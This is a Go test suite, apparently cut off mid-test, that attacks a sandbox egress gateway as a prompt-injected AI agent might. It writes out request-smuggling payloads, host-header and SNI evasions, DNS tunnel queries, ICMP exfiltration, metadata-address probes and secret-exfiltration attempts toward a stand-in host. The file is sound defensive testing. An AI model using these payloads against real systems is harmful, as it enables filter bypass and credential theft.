package egress

// The hostile review of issue #26: each test is an attack a prompt-injected agent in the sandbox could
// try, run in the lab's namespaces, with the outcome the gateway must give.

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// sendRaw writes payload from the sandbox to addr and returns the first line the gateway or the server
// answers ("" when the connection ended without one).
func (l *lab) sendRaw(t *testing.T, addr string, payload ...string) string {
	t.Helper()
	c := l.dialSandbox(t, addr)
	defer c.Close()
	for _, p := range payload {
		if _, err := io.WriteString(c, p); err != nil {
			break
		}
	}
	line, _ := bufio.NewReader(c).ReadString('\n')
	return line
}

// dialSandbox opens a TCP connection from the sandbox to addr, with a deadline, closed at the test's end.
func (l *lab) dialSandbox(t *testing.T, addr string) net.Conn {
	t.Helper()
	c, err := dialer(l.sandbox)(context.Background(), "tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	return c
}

// captureServer serves HTTP (HTTPS with httptest's own certificate when tlsOn) at addr in the internet,
// and returns what it has seen: each request's URL, body, trailers and Authorization header.
func (l *lab) captureServer(t *testing.T, addr string, tlsOn bool) func() []byte {
	var mu sync.Mutex
	var seen []byte
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		defer mu.Unlock()
		seen = append(append(append(seen, r.URL.String()...), b...), r.Header.Get("Authorization")...)
		for _, v := range r.Trailer {
			seen = append(seen, strings.Join(v, "")...)
		}
	}))
	srv.Listener.Close()
	srv.Listener = listenTCP(t, l.internet, "tcp4", addr)
	if tlsOn {
		srv.StartTLS()
	} else {
		srv.Start()
	}
	t.Cleanup(srv.Close)
	return func() []byte {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(seen)
	}
}

// TestHostileHTTPUnjudgedForms: a plain HTTP request the peek did not take for one (a method off its
// list, a lower-case method, an empty line first, as RFC 9112 lets a server skip) names another host to
// an allowed address under an allowlist: refused, never relayed to name other.test.
func TestHostileHTTPUnjudgedForms(t *testing.T) {
	l := newLab(t, allowlist)
	l.query("allowed.test", dns.TypeA)
	for _, tc := range []struct{ name, req string }{
		{"webdav method", "PROPFIND / HTTP/1.1\r\nHost: other.test\r\n\r\n"},
		{"made-up method", "FETCH / HTTP/1.1\r\nHost: other.test\r\n\r\n"},
		{"lower-case method", "get / HTTP/1.1\r\nHost: other.test\r\n\r\n"},
		{"empty line first", "\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"},
		{"allowed then pipelined", "PROPFIND / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(l.sink.snapshot())
			c := l.dialSandbox(t, pubWeb+":80")
			io.WriteString(c, tc.req)
			all, _ := io.ReadAll(c)
			if strings.Contains(string(all), "saw other.test") {
				t.Fatalf("relayed to name other.test: %q", all)
			}
			l.sink.waitAfter(t, before, "refusal", func(r Record) bool {
				return r.Kind == KindTCP && r.Verdict == Refused && r.Dest.String() == pubWeb+":80"
			})
		})
	}
}

// TestHostileHTTPSlowRequestLine: a client sends the start of a request line and waits out the peek,
// then names another host: the gateway must not take it for a protocol judged by its address.
func TestHostileHTTPSlowRequestLine(t *testing.T) {
	dialled := make(chan struct{}, 1)
	l := newLab(t, allowlist, func(c *Config) {
		c.PeekTimeout = 20 * time.Millisecond
		dial := c.Dial
		c.Dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
			if addr == pubWeb+":80" {
				select {
				case dialled <- struct{}{}:
				default:
				}
			}
			return dial(ctx, network, addr)
		}
	})
	l.query("allowed.test", dns.TypeA)
	before := len(l.sink.snapshot())
	c := l.dialSandbox(t, pubWeb+":80")
	io.WriteString(c, "GE")
	refused := func(r Record) bool {
		return r.Kind == KindTCP && r.Verdict == Refused && r.Dest.String() == pubWeb+":80"
	}
	// Either the gateway gives up waiting and connects (then the rest names another host), or it refuses.
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if l.sink.findAfter(before, refused) {
			return
		}
		select {
		case <-dialled:
			io.WriteString(c, "T / HTTP/1.1\r\nHost: other.test\r\n\r\n")
			all, _ := io.ReadAll(c)
			if strings.Contains(string(all), "saw other.test") {
				t.Fatalf("a request line sent slowly was relayed unjudged: %q", all)
			}
			l.sink.waitAfter(t, before, "refusal", refused)
			return
		default:
		}
		if time.Now().After(deadline) {
			t.Fatal("neither refused nor connected")
		}
	}
}

// TestHostileInvalidNames: a Host or SNI that is no host name (nor an address) is not judged as naming
// nothing (by the address alone): a server or CDN may still route by it.
func TestHostileInvalidNames(t *testing.T) {
	l := newLab(t, allowlist)
	l.query("allowed.test", dns.TypeA)
	for _, host := range []string{"other.test..", "évil.test", "allowed.test@other.test", "other.test:80:80", "*.other.test"} {
		t.Run(host, func(t *testing.T) {
			before := len(l.sink.snapshot())
			line := l.sendRaw(t, pubWeb+":80", "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
			if !strings.HasPrefix(line, "HTTP/1.1 403") {
				t.Fatalf("Host %q answered %q", host, line)
			}
			l.sink.waitAfter(t, before, "refused Host", func(r Record) bool {
				return r.Verdict == Refused && r.Reason == ReasonMalformed && r.Dest.String() == pubWeb+":80"
			})
		})
	}
	// The same names after an allowed request on a kept-alive connection.
	before := len(l.sink.snapshot())
	c := l.dialSandbox(t, pubWeb+":80")
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: other.test..\r\n\r\n")
	all, _ := io.ReadAll(c)
	if strings.Contains(string(all), "saw other.test") {
		t.Fatalf("second request relayed: %q", all)
	}
	l.sink.waitAfter(t, before, "refused second Host", func(r Record) bool {
		return r.Verdict == Refused && r.Reason == ReasonMalformed
	})
	// An SNI of no host name, to an allowed address.
	before = len(l.sink.snapshot())
	if status, body, err := l.get(l.sandbox, pubWeb+":443", "allowed.test", true, "évil.test"); err == nil {
		t.Fatalf("TLS with SNI évil.test reached the server: %d %q", status, body)
	}
	l.sink.waitAfter(t, before, "refused SNI", func(r Record) bool {
		return r.Verdict == Refused && r.Reason == ReasonMalformed && r.Dest.String() == pubWeb+":443"
	})
}

// TestHostileHugeRequestHead: a request head without end, sent after a first allowed request (past the
// peek's bound) in plain HTTP and inside a brokered TLS connection, is refused within a bound instead
// of being gathered into the gateway's memory (the runner's).
func TestHostileHugeRequestHead(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"allowlist","allow":[{"domain":"allowed.test"}]}`)
	l.query("allowed.test", dns.TypeA)
	flood := func(c net.Conn, first string) {
		go func() {
			io.WriteString(c, first+"GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Flood: ")
			chunk := bytes.Repeat([]byte("a"), 64<<10)
			for range 128 { // 8 MiB, far past any bound
				if _, err := c.Write(chunk); err != nil {
					return
				}
			}
		}()
	}
	before := len(l.sink.snapshot())
	c, err := dialer(l.sandbox)(context.Background(), "tcp", pubWeb+":80")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	flood(c, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
	l.sink.waitAfter(t, before, "huge head over HTTP", func(r Record) bool {
		return r.Verdict == Refused && r.Reason == ReasonHeadTooLarge && r.Dest.String() == pubWeb+":80"
	})
	before = len(l.sink.snapshot())
	tc := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
	flood(tc, "")
	l.sink.waitAfter(t, before, "huge head brokered", func(r Record) bool {
		return r.Verdict == Refused && r.Reason == ReasonHeadTooLarge && r.Dest.String() == pubWeb+":8443"
	})
}

// icmpEcho sends one ICMP echo request from the namespace ns to addr and returns the type of the first
// ICMP message back (0: echo reply; 3: destination unreachable).
func icmpEcho(t *testing.T, ns, addr string) byte {
	t.Helper()
	var typ byte
	err := inNS(ns, func() error {
		c, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
		if err != nil {
			return err
		}
		defer c.Close()
		msg := []byte{8, 0, 0, 0, 0x12, 0x34, 0, 1, 'e', 'x', 'f', 'i', 'l'}
		var sum uint32
		for i := 0; i < len(msg); i += 2 {
			v := uint32(msg[i]) << 8
			if i+1 < len(msg) {
				v |= uint32(msg[i+1])
			}
			sum += v
		}
		for sum > 0xffff {
			sum = sum&0xffff + sum>>16
		}
		binary.BigEndian.PutUint16(msg[2:], ^uint16(sum))
		if _, err := c.WriteTo(msg, &net.IPAddr{IP: net.ParseIP(addr)}); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
		b := make([]byte, 1500)
		for {
			n, _, err := c.ReadFrom(b)
			if err != nil {
				return err
			}
			if n > 0 && b[0] != 8 { // not our own request, looped back
				typ = b[0]
				return nil
			}
		}
	})
	if err != nil {
		t.Fatalf("ICMP echo from %s to %s: %v", ns, addr, err)
	}
	return typ
}

// TestHostileOtherIPProtocols: under a closed policy, ICMP (a ping's payload carries data out) and any
// IP protocol but TCP and UDP are refused at the sandbox's link, as UDP is; the sandbox that bypasses
// the gateway is answered.
func TestHostileOtherIPProtocols(t *testing.T) {
	l := newLab(t, `{"mode":"closed"}`)
	if typ := icmpEcho(t, l.direct, pubOther); typ != 0 {
		t.Fatalf("the direct sandbox's ping got ICMP type %d, want an echo reply", typ)
	}
	if typ := icmpEcho(t, l.sandbox, pubOther); typ != 3 {
		t.Fatalf("the sandbox's ping under a closed policy got ICMP type %d, want 3 (unreachable)", typ)
	}
}

// TestHostileBrokeredTrace: TRACE to a brokered host (Apache answers it by default, echoing the request
// it got) would hand the injected secret back to the sandbox: refused.
func TestHostileBrokeredTrace(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"allowlist","allow":[{"domain":"allowed.test"}]}`)
	l.query("allowed.test", dns.TypeA)
	for _, method := range []string{"TRACE", "TRACK", "trace"} {
		t.Run(method, func(t *testing.T) {
			before := len(l.sink.snapshot())
			tc := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
			io.WriteString(tc, method+" / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer "+placeholder+"\r\n\r\n")
			all, _ := io.ReadAll(tc)
			if strings.Contains(string(all), secret) {
				t.Fatalf("the secret came back: %q", all)
			}
			if !strings.HasPrefix(string(all), "HTTP/1.1 403") {
				t.Fatalf("%s answered %q", method, all)
			}
			l.sink.waitAfter(t, before, "refused trace", func(r Record) bool {
				return r.Verdict == Refused && r.Reason == ReasonTrace
			})
		})
	}
}

// tlsRecord is a TLS record of type typ holding body.
func tlsRecord(typ byte, body []byte) []byte {
	return append([]byte{typ, 3, 1, byte(len(body) >> 8), byte(len(body))}, body...)
}

// TestHostileTLSRecords: a ClientHello naming other.test to allowed.test's address is judged whether
// it is cut into many records and TCP segments, or comes after a record of another type (an alert, a
// change_cipher_spec) that a server may skip.
func TestHostileTLSRecords(t *testing.T) {
	l := newLab(t, allowlist)
	l.query("allowed.test", dns.TypeA)
	hello := clientHello(t, "other.test")
	body := hello[5:]
	var fragmented []string
	for i := 0; i < len(body); i += 7 {
		fragmented = append(fragmented, string(tlsRecord(22, body[i:min(i+7, len(body))])))
	}
	for _, c := range []struct {
		name    string
		writes  []string
		reasons []string
	}{
		{"fragmented", fragmented, []string{ReasonFronting}},
		{"alert first", []string{string(tlsRecord(21, []byte{1, 90})), string(hello)}, []string{ReasonMalformed}},
		{"change cipher spec first", []string{string(tlsRecord(20, []byte{1})), string(hello)}, []string{ReasonMalformed}},
		{"empty handshake record first", []string{string(tlsRecord(22, nil)), string(hello)}, []string{ReasonMalformed, ReasonFronting}},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := len(l.sink.snapshot())
			l.sendRaw(t, pubWeb+":443", c.writes...)
			r := l.sink.waitAfter(t, before, "refusal", func(r Record) bool { return r.Dest.String() == pubWeb+":443" })
			if r.Verdict != Refused || !slices.Contains(c.reasons, r.Reason) {
				t.Fatalf("record %+v, want refused for %v", r, c.reasons)
			}
		})
	}
}

// TestHostileSmuggling: requests hidden in a body of ambiguous length (Content-Length and
// Transfer-Encoding both, an unknown coding, two lengths) never reach the server unjudged: the gateway
// writes each request again in its own framing, so the server parses what the gateway judged.
func TestHostileSmuggling(t *testing.T) {
	l := newLab(t, allowlist)
	l.query("allowed.test", dns.TypeA)
	smuggled := "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"
	for _, c := range []struct{ name, req string }{
		{"CL.TE", "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: " + fmt.Sprint(5+len(smuggled)) + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE.CL", "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" +
			fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(smuggled), smuggled)},
		{"obfuscated TE", "POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + smuggled},
		{"two lengths", "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: " + fmt.Sprint(len(smuggled)) + "\r\n\r\n" + smuggled},
		{"obs-fold", "GET / HTTP/1.1\r\nHost: allowed.test\r\nX-A: b\r\n Host: other.test\r\n\r\n"},
		{"absolute form after", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://allowed.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			conn := l.dialSandbox(t, pubWeb+":80")
			io.WriteString(conn, c.req)
			conn.(*net.TCPConn).CloseWrite()
			all, _ := io.ReadAll(conn)
			if strings.Contains(string(all), "saw other.test") {
				t.Fatalf("smuggled request answered: %q", all)
			}
		})
	}
}

// TestHostileBrokeredToOtherAddress: in open mode, the sandbox connects to an address of its own choice
// naming a brokered host in its SNI (the gateway's resolver never asked): the gateway terminates, but
// the address must prove it is the brokered host against the upstream roots, so the secret never
// reaches it.
func TestHostileBrokeredToOtherAddress(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"open"}`)
	seen := l.captureServer(t, pubOther+":8443", true) // httptest's own certificate, not the internet CA's
	tc := l.sandboxTLS(t, ca, pubOther+":8443", "allowed.test")
	status, body := roundTrip(t, tc, "GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer "+placeholder+"\r\n\r\n")
	if status != http.StatusBadGateway {
		t.Fatalf("brokered request to an impostor: %d %q", status, body)
	}
	if bytes.Contains(seen(), []byte(secret)) {
		t.Fatal("the secret reached an address that is not the brokered host")
	}
}

// TestHostileBrokeredALPN: a client that offers only h2 to a brokered host, or sends HTTP/2's preface
// anyway, gets nothing past the gateway (it brokers HTTP/1.1 only).
func TestHostileBrokeredALPN(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"open"}`)
	l.query("allowed.test", dns.TypeA)
	c, err := dialer(l.sandbox)(context.Background(), "tcp", pubWeb+":8443")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	tc := tls.Client(c, &tls.Config{ServerName: "allowed.test", RootCAs: ca.Pool(), NextProtos: []string{"h2"}})
	_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
	if err := tc.Handshake(); err == nil && tc.ConnectionState().NegotiatedProtocol == "h2" {
		t.Fatal("h2 negotiated with a brokered host")
	}
	tc2 := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
	io.WriteString(tc2, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	all, _ := io.ReadAll(tc2)
	if !strings.HasPrefix(string(all), "HTTP/1.1 403") {
		t.Fatalf("HTTP/2 preface answered %q", all)
	}
}

// TestHostileDNSCNAMEToDenied: a name the policy does not deny whose answer is a CNAME chain to a name
// a deny rule names is refused: else the denied host is reached under an alias (whose SNI or Host the
// server may well serve), in open mode and under an allowlist.
func TestHostileDNSCNAMEToDenied(t *testing.T) {
	for _, c := range []struct{ policy, name string }{
		{`{"mode":"open","deny":[{"domain":"other.test"}]}`, "alias.test"},
		{`{"mode":"allowlist","allow":[{"domain":"*.allowed.test"}],"deny":[{"domain":"other.test"}]}`, "chain.allowed.test"},
	} {
		t.Run(c.name, func(t *testing.T) {
			l := newLab(t, c.policy)
			m := l.query(c.name, dns.TypeA)
			if m.Rcode != dns.RcodeRefused || len(m.Answer) != 0 {
				t.Fatalf("%s answered %v", c.name, m)
			}
			l.sink.wait(t, "refused chain", refusedFor(KindDNS, c.name, "denied by rule"))
			// (In open mode, the address reached with a name the resolver refused is not compared: a
			// limit of open mode, which refuses by CIDR only what it has not resolved.)
			if status, body, _ := l.get(l.sandbox, pubOther+":80", c.name, false, ""); strings.HasPrefix(c.policy, `{"mode":"allowlist"`) && strings.Contains(body, "saw") {
				t.Fatalf("reached the denied host as %s: %d %q", c.name, status, body)
			}
		})
	}
	// A chain to a name no rule denies is answered, flattened under the name asked.
	l := newLab(t, `{"mode":"open","deny":[{"domain":"denied.test"}]}`)
	m := l.query("alias.test", dns.TypeA)
	if got := addrs(m); len(got) != 1 || got[0] != pubOther || m.Answer[0].Header().Name != "alias.test." {
		t.Fatalf("alias.test answered %v", m)
	}
}

// TestHostileDNSQueries: what a resolver in the sandbox may send: other record types (tunnels, ECH
// configurations in HTTPS records) are answered empty without asking upstream; a name in random case
// (0x20) is answered with its question as asked; a name with 100 addresses gives at most 32; TCP gets
// the same answers and refusals as UDP; a large EDNS buffer changes none of it.
func TestHostileDNSQueries(t *testing.T) {
	l := newLab(t, allowlist)
	for _, qtype := range []uint16{dns.TypeNULL, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeANY, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypePTR} {
		name := "x" + dns.TypeToString[qtype] + ".allowed.test"
		if m := l.query(name, qtype); m.Rcode != dns.RcodeSuccess || len(m.Answer) != 0 {
			t.Errorf("type %s answered %v", dns.TypeToString[qtype], m)
		}
		if l.upstreamAsked(name) {
			t.Errorf("type %s asked upstream", dns.TypeToString[qtype])
		}
	}
	m := l.query("AlLoWeD.TeSt", dns.TypeA)
	if m.Question[0].Name != "AlLoWeD.TeSt." || len(addrs(m)) != 1 {
		t.Fatalf("0x20 query answered %v", m)
	}
	l.gw.SetStack(NewStack(HardDeny{}, mustParse(t, `{"mode":"allowlist","allow":[{"domain":"many.test"}]}`), nil))
	for _, size := range []uint16{0, 4096, 65535} {
		c, err := dialer(l.sandbox)(context.Background(), "udp", "192.0.2.53:53")
		if err != nil {
			t.Fatal(err)
		}
		q := new(dns.Msg).SetQuestion("many.test.", dns.TypeA)
		if size > 0 {
			q.SetEdns0(size, false)
		}
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		m, _, err := (&dns.Client{UDPSize: size}).ExchangeWithConn(q, &dns.Conn{Conn: c})
		c.Close()
		if err != nil {
			t.Fatal(err)
		}
		if n := len(m.Answer); n > maxAnswerAddr || n == 0 {
			t.Errorf("EDNS %d: %d addresses", size, n)
		}
	}
	for name, want := range map[string]int{"many.test": dns.RcodeSuccess, "other.test": dns.RcodeRefused} {
		c, err := dialer(l.sandbox)(context.Background(), "tcp", "192.0.2.53:53")
		if err != nil {
			t.Fatal(err)
		}
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		m, _, err := (&dns.Client{Net: "tcp"}).ExchangeWithConn(new(dns.Msg).SetQuestion(name+".", dns.TypeA), &dns.Conn{Conn: c})
		c.Close()
		if err != nil || m.Rcode != want || len(m.Answer) > maxAnswerAddr {
			t.Fatalf("%s over TCP: %v %v", name, m, err)
		}
	}
}

// TestHostileIPv6Destinations: Teredo, IPv4-translated, cloud metadata and the router's own addresses
// (its scoped link-local one included) are refused by the hard deny list before anything is dialled.
func TestHostileIPv6Destinations(t *testing.T) {
	l := newLab(t, `{"mode":"open"}`)
	out, err := exec.Command("ip", "-n", strings.TrimPrefix(l.router, "/run/netns/"), "-6", "-o", "addr", "show", "dev", l.iface, "scope", "link").Output()
	if err != nil {
		t.Fatal(err)
	}
	f := strings.Fields(string(out))
	i := slices.Index(f, "inet6")
	if i < 0 {
		t.Fatalf("no link-local address on the router's link: %s", out)
	}
	ll := strings.Split(f[i+1], "/")[0]
	sandboxIface := strings.TrimSuffix(l.iface, "a") + "b"
	for dest, want := range map[string]string{
		"[2001:0:4136:e378:8000:63bf:f566:fffa]:80": "2001:0:4136:e378:8000:63bf:f566:fffa",
		"[::ffff:0:a63:5]:80":                       "::ffff:0:a63:5",
		"169.254.169.254:80":                        "169.254.169.254",
		"10.250.0.1:22":                             "10.250.0.1", // the host, at its end of the link
		"[fd00:ec2::254]:80":                        "fd00:ec2::254",
		"[" + ll + "%" + sandboxIface + "]:80":      ll,
	} {
		c, err := dialer(l.sandbox)(context.Background(), "tcp", dest)
		if err == nil {
			_ = c.SetDeadline(time.Now().Add(10 * time.Second))
			io.WriteString(c, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
			if b, _ := io.ReadAll(c); len(b) > 0 {
				t.Errorf("%s answered %q", dest, b)
			}
			c.Close()
		}
		l.sink.wait(t, "hard deny of "+dest, func(r Record) bool {
			return r.Verdict == Refused && r.Reason == ReasonHardDeny && r.Dest.Addr().String() == want
		})
	}
}

// TestHostileManyConnections: connections that send nothing (half-open, slowloris on the peek) hold at
// most MaxConns of the gateway at once: one more is refused and recorded, and a hello sent slowly is
// cut at the peek's bound, not waited for.
func TestHostileManyConnections(t *testing.T) {
	l := newLab(t, `{"mode":"open"}`, func(c *Config) { c.MaxConns = 4; c.PeekTimeout = time.Hour })
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for range 4 {
		c, err := dialer(l.sandbox)(context.Background(), "tcp", pubWeb+":443")
		if err != nil {
			t.Fatal(err)
		}
		held = append(held, c)
		io.WriteString(c, "\x16\x03\x01") // a hello begun, never ended
	}
	for deadline := time.Now().Add(10 * time.Second); l.gw.active.Load() < 4; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%d connections held", l.gw.active.Load())
		}
	}
	if c, err := dialer(l.sandbox)(context.Background(), "tcp", pubWeb+":80"); err == nil { // reset at once
		if b, _ := io.ReadAll(c); len(b) > 0 {
			t.Errorf("one connection too many answered %q", b)
		}
		c.Close()
	}
	l.sink.wait(t, "one too many", refusedFor(KindTCP, pubWeb+":80", ReasonTooMany))
	// With the peek's bound, a hello begun and never ended is refused at the bound.
	l2 := newLab(t, `{"mode":"open"}`, func(c *Config) { c.PeekTimeout = 50 * time.Millisecond })
	c, err := dialer(l2.sandbox)(context.Background(), "tcp", pubWeb+":443")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "\x16\x03\x01")
	l2.sink.wait(t, "slow hello", refusedFor(KindTCP, pubWeb+":443", ReasonMalformed))
}

// TestHostileBrokeredUntrustedCA: a sandbox client that does not trust the sandbox's CA (pins the real
// one) gets no certificate it accepts, and the refusal is recorded; nothing is relayed.
func TestHostileBrokeredUntrustedCA(t *testing.T) {
	l, _ := injectLab(t, `{"mode":"open"}`)
	l.query("allowed.test", dns.TypeA)
	c, err := dialer(l.sandbox)(context.Background(), "tcp", pubWeb+":8443")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	other, err := NewCA("pinned", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "allowed.test", RootCAs: other.Pool()})
	_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
	if err := tc.Handshake(); err == nil {
		t.Fatal("handshake with a CA the client does not trust")
	}
	l.sink.wait(t, "refused handshake", refusedFor(KindTCP, pubWeb+":8443", ReasonMalformed))
}

// TestHostilePlaceholderOverPlainHTTP: the placeholder sent over plain HTTP to a host that is not
// brokered, in the body (whole, or split across writes), in a chunked trailer or percent-encoded in the
// URL, is refused and recorded, and no whole placeholder reaches the server.
func TestHostilePlaceholderOverPlainHTTP(t *testing.T) {
	l, _ := injectLab(t, `{"mode":"open"}`)
	seen := l.captureServer(t, pubOther+":8080", false)
	l.query("other.test", dns.TypeA)
	half := len(placeholder) / 2
	body := strings.Repeat("x", 20000) + placeholder
	encoded := ""
	for i := 0; i < len(placeholder); i++ {
		encoded += fmt.Sprintf("%%%02X", placeholder[i])
	}
	for _, c := range []struct {
		name   string
		writes []string
	}{
		{"body", []string{"POST / HTTP/1.1\r\nHost: other.test\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body}},
		{"body split", []string{"POST / HTTP/1.1\r\nHost: other.test\r\nContent-Length: " + fmt.Sprint(len(placeholder)+2) + "\r\n\r\nk=" + placeholder[:half], placeholder[half:]}},
		{"chunked", []string{"POST / HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\n\r\n" +
			fmt.Sprintf("%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", half, placeholder[:half], len(placeholder)-half, placeholder[half:])}},
		{"trailer", []string{"POST / HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\n\r\n1\r\na\r\n0\r\nX-Key: " + placeholder + "\r\n\r\n"}},
		{"percent-encoded path", []string{"GET /" + encoded + " HTTP/1.1\r\nHost: other.test\r\n\r\n"}},
		{"percent-encoded query", []string{"GET /?k=" + encoded + " HTTP/1.1\r\nHost: other.test\r\n\r\n"}},
		{"second request", []string{"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", "POST / HTTP/1.1\r\nHost: other.test\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body}},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := len(l.sink.snapshot())
			conn := l.dialSandbox(t, pubOther+":8080")
			for _, w := range c.writes {
				io.WriteString(conn, w)
			}
			l.sink.waitAfter(t, before, "placeholder", func(r Record) bool {
				return r.Verdict == Refused && r.Reason == ReasonPlaceholder && r.Dest.String() == pubOther+":8080"
			})
			conn.Close()
			if bytes.Contains(seen(), []byte(placeholder)) {
				t.Fatal("the whole placeholder reached the server")
			}
		})
	}
}

// TestPeekHostileForms: what peek makes of the first bytes an attacker chooses.
func TestPeekHostileForms(t *testing.T) {
	for _, c := range []struct {
		name, in, proto string
		fails           bool
	}{
		{"any method", "FETCH / HTTP/1.1\r\nHost: a.test\r\n\r\n", "http", false},
		{"lower case", "get / HTTP/1.1\r\nHost: a.test\r\n\r\n", "http", false},
		{"lower-case version", "GET / http/1.1\r\nHost: a.test\r\n\r\n", "http", true},
		{"empty line first", "\r\nGET / HTTP/1.1\r\nHost: a.test\r\n\r\n", "http", true},
		{"cut short", "GE", "http", true},
		{"letter then binary", "A\x00\x01\x02", "", false},
		{"ssh banner", "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3\r\n", "", false},
		{"redis", "*1\r\n$4\r\nPING\r\n", "", false},
		{"h2 prior knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "", false},
		{"alert record", "\x15\x03\x01\x00\x02\x01\x5a", "tls", true},
		{"not a record", "\x15\x00", "", false},
		{"bad Host", "GET / HTTP/1.1\r\nHost: a..test\r\n\r\n", "http", true},
		{"address Host", "GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\n\r\n", "http", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			h, err := peekBytes([]byte(c.in))
			if (err != nil) != c.fails || h.proto != c.proto {
				t.Fatalf("peek = %+v, %v", h, err)
			}
		})
	}
}

// TestHostileBrokeredRedirect: a brokered host's redirect to another host is handed to the sandbox,
// never followed by the gateway (the secret stays with the brokered host); the sandbox following it
// with the placeholder is refused.
func TestHostileBrokeredRedirect(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"open"}`)
	l.query("allowed.test", dns.TypeA)
	seen := l.captureServer(t, pubOther+":8081", false)
	tc := l.sandboxTLS(t, ca, pubWeb+":8443", "allowed.test")
	status, _ := roundTrip(t, tc, "GET /redirect HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer "+placeholder+"\r\n\r\n")
	if status != http.StatusFound {
		t.Fatalf("redirect answered %d", status)
	}
	c, err := dialer(l.sandbox)(context.Background(), "tcp", pubOther+":8081")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if status, _ := roundTrip(t, c, "GET / HTTP/1.1\r\nHost: 203.0.114.11:8081\r\nAuthorization: Bearer "+placeholder+"\r\n\r\n"); status != 403 {
		t.Fatalf("the redirect followed with the placeholder: %d", status)
	}
	l.sink.wait(t, "placeholder after the redirect", refusedFor(KindTCP, pubOther+":8081", ReasonPlaceholder))
	if got := seen(); len(got) > 0 {
		t.Fatalf("the redirect's target got requests: %q", got)
	}
}

// TestHostileBrokeredValueEchoed: the brokered host answers a credential it refuses by quoting it (as
// the lab's does, and many servers' error messages do): the sandbox shapes the header around the
// placeholder so the secret is refused, and would read it back. Only "placeholder" or "Scheme
// placeholder" is injected; anything else is refused.
func TestHostileBrokeredValueEchoed(t *testing.T) {
	l, ca := injectLab(t, `{"mode":"open"}`)
	l.query("allowed.test", dns.TypeA)
	for _, c := range []struct{ name, headers string }{
		{"text after", "Authorization: Bearer " + placeholder + "x\r\n"},
		{"two spaces", "Authorization: Bearer  " + placeholder + "\r\n"},
		{"twice", "Authorization: Bearer " + placeholder + placeholder + "\r\n"},
		{"quoted", "Authorization: Bearer \"" + placeholder + "\"\r\n"},
